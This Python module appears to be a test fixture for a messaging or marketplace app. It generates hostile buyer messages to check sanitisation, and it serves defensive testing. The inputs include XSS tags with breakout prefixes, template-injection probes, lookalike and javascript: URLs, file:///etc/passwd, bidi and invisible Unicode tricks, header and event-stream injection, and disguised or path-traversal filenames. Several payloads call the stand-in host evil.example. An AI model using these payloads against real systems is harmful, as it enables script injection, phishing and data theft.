"""What a buyer might write to hurt: ways in, and what is to be smuggled through them."""

from collections.abc import Iterator
from itertools import product

# A script that gets to run says so where the tests look for it; a request would leave the page.
SAYS = "window.hurt=1"
AWAY = "https://evil.example/steal"

TAGS = (
    f"<script>{SAYS}</script>",
    f"<script src={AWAY}></script>",
    f"<img src=x onerror={SAYS}>",
    f"<img src={AWAY}>",
    f"<svg onload={SAYS}>",
    f"<svg><script>{SAYS}</script></svg>",
    f"<svg><animate onbegin={SAYS} attributeName=x dur=1s>",
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{SAYS}</script>"></foreignObject></svg>',
    f'<iframe src="javascript:parent.{SAYS}"></iframe>',
    f"<iframe src={AWAY}></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>body{{background:url({AWAY})}}</style>",
    "<style>*{display:none!important}</style>",
    f'<div style="background:url({AWAY});position:fixed;inset:0">x</div>',
    f"<body onload={SAYS}>",
    f"<input autofocus onfocus={SAYS}>",
    f"<details open ontoggle={SAYS}>",
    f"<video><source onerror={SAYS}></video>",
    f"<audio src={AWAY} onerror={SAYS}></audio>",
    f"<marquee onstart={SAYS}>",
    f'<math><mi xlink:href="javascript:{SAYS}">x</mi></math>',
    f"<form action={AWAY}><button autofocus>ok</button></form>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<base href={AWAY}/>",
    f'<a href="javascript:{SAYS}" autofocus>x</a>',
    f'<a href="data:text/html,<script>{SAYS}</script>">x</a>',
    f"<template><script>{SAYS}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SAYS}>'>",
    f"<x hx-get={AWAY} hx-trigger=load></x>",
    f"<x hx-on:load='{SAYS}' data-do=approve></x>",
    f'<button data-post="{AWAY}" data-do="approve" autofocus>ok</button>',
    f"<li class=row data-id=x><a href={AWAY}>x</a></li>",
)
BREAKOUTS = ("", '">', "'>", "</textarea>", "</script>", "</title></style></svg>", "]]>", "-->")

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ request.application.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.hurt=1')()}}",
    "%(name)s %s %n {0} {__class__}",
)
LINKS = (
    "https://аmazon.com/your-order",  # the first letter is Cyrillic
    "https://amаzon.com@evil.example/",
    "https://amazon.com.evil.example/",
    "http://xn--mazon-3ve.com/",
    "https://taobao。com/",
    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ",
    "javascript:window.hurt=1",
    "JaVaScRiPt\u0000:window.hurt=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=window.hurt=1>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\share",
)
ORDER = (
    "\u202eetirw ot erehw si siht\u202c",
    "\u202e" * 50 + "no end",
    "\u2066\u2067\u2068 isolates that never end",
    "\u200f\u061cright to left\u200e",
    "invoice\u202efdp.exe",
    "\u05e9\u05dc\u05d5\u05dd \u200f abc \u200e \u0645\u0631\u062d\u0628\u0627 123",
)
UNSEEN = (
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "\u200b" * 5_000,
    "\u00ad" * 500,
    "\U000e0041\U000e0042\U000e0043",
    "\u115f\u3164\uffa0",
    "\x00\x01\x02\x1b[31mred\x1b[0m\x7f\x9b",
    "\u2028line\u2029paragraph\x85next",
    "\ufdd0\uffff\U0010ffff",
    "e" + "\u0301" * 300,
    "Z" + "\u0335\u0336\u0337\u0338" * 200 + "algo",
)
HUGE = (
    "w" * 60_000,
    "词" * 20_000,
    "\n" * 5_000,
    "a\n" * 5_000,
    "👩‍👩‍👧‍👦" * 2_000,
    "<b>" * 10_000,
    "&amp;" * 10_000,
    '"' * 10_000,
    "\t" * 5_000,
    "﷽" * 2_000,
)
MIME = (
    "Content-Type: text/html\r\n\r\n<script>window.hurt=1</script>",
    "--boundary\r\nContent-Type: image/svg+xml\r\n\r\n<svg onload=window.hurt=1>",
    "=?utf-8?B?PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+?=",
    "begin 644 x.html\n<script>window.hurt=1</script>\nend",
    "+ADw-script+AD4-window.hurt=1+ADw-/script+AD4-",
    "\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "data: x\n\nevent: approved\ndata: {}\n\n",
    '{"type":"approved"}\n\nid: 0\n\n',
)
FILES = (
    "photo.jpg\u202egpj.exe",
    "../../etc/passwd",
    '"><img src=x onerror=window.hurt=1>.png',
    "x.svg\x00.png",
    "a" * 3_000 + ".pdf",
    "\n\n\nname.png",
)


def hostile() -> Iterator[str]:
    """Every message, each once."""
    for way, tag in product(BREAKOUTS, TAGS):
        yield way + tag
    yield from (*TEMPLATES, *LINKS, *ORDER, *UNSEEN, *HUGE, *MIME)
